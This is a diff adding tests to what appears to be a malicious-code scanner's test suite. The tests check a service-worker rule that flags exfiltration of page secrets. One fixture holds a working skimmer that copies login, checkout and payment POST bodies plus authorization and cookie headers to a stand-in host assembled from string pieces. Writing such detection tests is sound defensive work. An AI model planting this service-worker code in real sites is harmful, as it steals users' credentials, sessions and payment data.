@@ -1423,3 +1423,30 @@ globalThis[rot('Shapgvba')]('r', text)(require);`,
     ).toEqual([]);
   });
 });
+
+describe("a service worker's fetch handler", () => {
+  const sw = (post: string) => `const SENSITIVE = /(login|checkout|payment|token)/i;
+async function mirror(req) {
+  const body = await req.clone().text();
+  const hdr = {};
+  for (const [k, v] of req.headers) if (/authorization|cookie/i.test(k)) hdr[k] = v;
+  ${post}
+}
+self.addEventListener('fetch', (event) => {
+  const req = event.request;
+  if (req.method === 'POST' && SENSITIVE.test(req.url)) { event.waitUntil(mirror(req)); return; }
+  event.respondWith(caches.open('v3').then(async (c) => (await c.match(req)) || fetch(req)));
+});`;
+  it('copies login and checkout POST bodies and session headers to a host written in the file', () => {
+    expect(
+      rules({
+        'sw.js': sw(
+          "await fetch(['https://', 'sw-metrics', '.example', '/v1/batch'].join(''), { method: 'POST', body: JSON.stringify({ u: req.url, b: body, h: hdr }) });",
+        ),
+      }),
+    ).toContain('js.page-secret-exfil');
+  });
+  it('quiet: an offline cache that only forwards requests to where they were going', () => {
+    expect(threatsOf(load({ 'sw.js': sw('await fetch(req.url, { method: "POST", body });') }))).toEqual([]);
+  });
+});
